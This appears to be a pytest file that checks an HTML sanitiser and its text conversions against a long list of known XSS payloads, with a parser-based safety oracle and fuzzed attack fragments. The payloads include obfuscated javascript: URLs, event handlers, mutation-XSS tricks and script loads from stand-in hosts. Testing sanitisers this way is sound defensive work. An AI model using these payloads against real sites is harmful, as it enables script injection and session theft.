"""The HTML sanitiser against known XSS vectors, and the text conversions.

The oracle (`assert_safe`) re-parses the sanitised output with the stdlib parser, independently of
nh3, and checks tags, attributes and URL schemes the way a browser would read them.
"""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    html_to_text,
    sanitize_html,
    text_to_html,
)

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
    "srcset", "codebase", "cite", "longdesc", "dynsrc", "lowsrc", "ping",
}  # fmt: skip


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.other: list[str] = []  # comments, declarations, processing instructions

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value) for name, value in attrs)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.other.append(f"<![{data}]>")


def parse(markup: str) -> _Markup:
    parser = _Markup()
    parser.feed(markup)
    parser.close()
    return parser


def url_scheme(value: str) -> str:
    """The scheme a browser would see: entities decoded, whitespace/controls removed, lowercased."""
    decoded = html.unescape(html.unescape(value))  # twice: be stricter than any browser
    cleaned = re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]", "", decoded).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else ""


def assert_safe(output: str) -> None:
    markup = parse(output)
    assert set(markup.tags) <= ALLOWED_TAGS, markup.tags
    assert not markup.other, markup.other
    for tag, name, value in markup.attributes:
        assert not name.startswith("on"), (tag, name)
        permitted = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert name in permitted, (tag, name, value)
        if name in URL_ATTRIBUTES:
            # Relative URLs are dropped by policy, so every surviving URL names its scheme.
            assert url_scheme(value or "") in ALLOWED_URL_SCHEMES, (tag, name, value)
        if tag == "a" and name == "rel":
            assert value == "noopener noreferrer nofollow"


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>after",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert("XSS")</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav\nascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    '<a href="/admin/logout">relative</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="color:red">x</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>x</a>',
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://xss.example/scriptlet.html"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<div style="width: expression(alert(1));">x</div>',
    "<p style=\"background-image: url('javascript:alert(1)')\">x</p>",
    '<p onclick="alert(1)">click</p>',
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<script/xss src=https://xss.example/xss.js></script>",
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)"',
    "<p title='x'><b onmouseover=alert(1)>unclosed",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><html><head><title>x</title></head><body>hi</body></html>",
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>',
    '<td colspan="2" onmouseover=alert(1)>x</td>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<object><param name="src" value="javascript:alert(1)"></param></object>',
    '<span id="x" class="y" data-foo="bar" lang="en" dir="rtl">attrs</span>',
    '<a href="https://ok.example/?q=<script>">ok</a>',
    '<a href="https://ok.example/" title="&quot; onmouseover=&quot;alert(1)">x</a>',
    "<a href='https://ok.example/' title='\"><script>alert(1)</script>'>x</a>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload):
    output = sanitize_html(payload)
    assert_safe(output)
    # Nothing executable survives as live markup; escaped text like "&lt;script" is harmless.
    assert "alert(1)</script" not in output.lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitising_twice_changes_nothing(payload):
    once = sanitize_html(payload)
    assert sanitize_html(once) == once


@pytest.mark.parametrize(
    "bad_output",
    [
        '<img src="x" onerror="alert(1)">',
        '<a href=" java&#x09;script:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="/relative" rel="noopener noreferrer nofollow">x</a>',
        '<p style="color:red">x</p>',
        "<!-- comment -->",
        "<script>alert(1)</script>",
    ],
)
def test_the_oracle_itself_catches_unsafe_markup(bad_output):
    with pytest.raises(AssertionError):
        assert_safe(bad_output)


def test_script_and_style_content_is_dropped_not_escaped():
    output = sanitize_html("<p>a</p><script>var secret = 1;</script><style>p{}</style><p>b</p>")
    assert output == "<p>a</p><p>b</p>"


def test_benign_formatting_survives():
    source = (
        "<h1>Title</h1><h4>Sub</h4><p>Hello <strong>bold</strong> <b>b</b> <em>em</em> <i>i</i> "
        "<u>u</u> <s>s</s> <span>span</span><br>next line</p><hr>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quoted</blockquote>"
        "<pre><code>x = 1\n  y = 2</code></pre>"
        '<table><thead><tr><th colspan="2">head</th></tr></thead>'
        '<tbody><tr><td rowspan="1">a</td><td>b</td></tr></tbody></table>'
    )
    assert sanitize_html(source) == source


def test_links_keep_href_and_title_and_get_rel():
    output = sanitize_html('<a href="https://example.com/a?b=1&amp;c=2" title="Docs">docs</a>')
    assert output == (
        '<a href="https://example.com/a?b=1&amp;c=2" title="Docs" '
        'rel="noopener noreferrer nofollow">docs</a>'
    )
    mail = sanitize_html('<a href="mailto:help@example.com">mail</a>')
    assert 'href="mailto:help@example.com"' in mail
    assert 'href="http://example.com"' in sanitize_html('<a href="http://example.com">x</a>')


def test_disallowed_links_keep_their_text():
    output = sanitize_html('<a href="javascript:alert(1)">Click here</a>')
    assert output == '<a rel="noopener noreferrer nofollow">Click here</a>'


def test_unknown_tags_are_unwrapped_keeping_text():
    assert sanitize_html("<div><font color=red>hello</font></div>") == "hello"


def test_no_images_at_all():
    assert sanitize_html('<img src="https://example.com/pixel.gif" alt="x">hi') == "hi"


def test_empty_input():
    assert sanitize_html("") == ""


# Fragments combined at random: attributes, schemes, encodings and parser-confusing sequences.
_FRAGMENTS = [
    "<a href=\"", "javascript:", "JaVaScRiPt:", "&#106;", "&#x09;", "\t", "\n", "\x00", "data:",
    "vbscript:", "https://ok.example/", "\">", "'", "\"", "<", ">", "</", "/>", "<script>",
    "</script>", "<img src=x ", "onerror=alert(1)", " onclick=", "<svg ", "<math>", "<style>",
    "<noscript>", "</noscript>", "<!--", "-->", "<![CDATA[", "]]>", "<p title=\"", "<td ",
    "colspan=", "style=", "expression(", "<iframe>", "<a>", "</a>", "<b>", "text", "&amp;", "&",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=25).map("".join))
def test_random_fragment_soup_is_always_safe(soup):
    assert_safe(sanitize_html(soup))


# --- html_to_text --------------------------------------------------------------------------------


def test_html_to_text_blocks_breaks_and_entities():
    source = "<p>Hello <b>world</b></p><p>Fish &amp; chips&nbsp;&lt;3</p>line<br>two<br><br>four"
    assert html_to_text(source) == "Hello world\n\nFish & chips <3\n\nline\ntwo\n\nfour"


def test_html_to_text_links_keep_their_url():
    source = (
        '<p>See <a href="https://example.com/kb/1">the article</a> or '
        '<a href="mailto:help@example.com">mail us</a> or https://x.example '
        '<a href="https://x.example">https://x.example</a>.</p>'
    )
    assert html_to_text(source) == (
        "See the article (https://example.com/kb/1) or mail us (help@example.com) or "
        "https://x.example https://x.example."
    )


def test_html_to_text_drops_unsafe_link_targets_and_invisible_content():
    source = (
        "<html><head><title>T</title><style>p { color: red }</style></head><body>"
        "<script>alert(1)</script><a href='javascript:alert(1)'>click</a><!-- note -->"
        "</body></html>"
    )
    assert html_to_text(source) == "click"


def test_html_to_text_lists_tables_and_pre():
    source = (
        "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>"
        "<ol><li>first</li><li>second</li></ol>"
        "<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table>"
        "<pre>  keep\n    indent</pre>"
    )
    assert html_to_text(source) == (
        "- one\n- two\n  - nested\n\n1. first\n2. second\n\nA | B\n1 | 2\n\n  keep\n    indent"
    )


def test_html_to_text_normalises_whitespace():
    source = "  <div>  lots   of\n\n   space  </div>\n\n\n<div>\tnext\t</div>  "
    assert html_to_text(source) == "lots of space\nnext"


def test_html_to_text_survives_broken_markup():
    assert html_to_text("<p>unclosed <b>bold <i>x") == "unclosed bold x"
    assert html_to_text("a < b and c > d") == "a < b and c > d"
    assert html_to_text("") == ""


# --- text_to_html --------------------------------------------------------------------------------


def test_text_to_html_escapes_and_structures():
    text = "Hi <b>team</b> & co,\nsecond line\r\n\r\n\r\nnew \"paragraph\" 'here'\n"
    assert text_to_html(text) == (
        "<p>Hi &lt;b&gt;team&lt;/b&gt; &amp; co,<br>\nsecond line</p>\n"
        "<p>new &quot;paragraph&quot; &#x27;here&#x27;</p>"
    )


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_text_to_html_never_produces_markup_from_input(payload):
    output = text_to_html(payload)
    assert set(parse(output).tags) <= {"p", "br"}
    assert_safe(output)


def test_text_to_html_round_trips_through_html_to_text():
    text = "First line\nsecond <line> & more\n\nNext paragraph"
    assert html_to_text(text_to_html(text)) == text


def test_text_to_html_blank_input():
    assert text_to_html("") == ""
    assert text_to_html("\n \n") == ""


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_linkified_text_never_produces_markup_from_input(payload):
    output = text_to_html(payload, linkify=True)
    assert set(parse(output).tags) <= {"p", "br", "a"}
    assert_safe(output)


def test_linkify_makes_web_addresses_links_and_leaves_the_sentence_alone():
    text = "See https://example.com/a?b=1&c=2. Or (http://x.org/path), not javascript:alert(1)"
    assert text_to_html(text, linkify=True) == (
        '<p>See <a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">'
        'https://example.com/a?b=1&amp;c=2</a>. Or (<a href="http://x.org/path" '
        'rel="noopener noreferrer nofollow">http://x.org/path</a>), not javascript:alert(1)</p>'
    )
    assert text_to_html("just http:// here", linkify=True) == "<p>just http:// here</p>"
